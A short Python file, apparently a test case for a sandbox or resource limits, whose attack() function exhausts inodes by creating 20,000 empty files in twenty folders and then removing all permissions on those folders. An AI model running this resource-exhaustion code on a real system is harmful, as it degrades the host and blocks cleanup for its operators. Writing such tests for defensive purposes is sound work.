"""Use up inodes: 20,000 empty files, in folders that nobody may enter."""

import os


def attack() -> None:
    for folder in range(20):
        os.mkdir(str(folder))
        for number in range(1000):
            open(f"{folder}/{number}", "w").close()
        os.chmod(str(folder), 0)
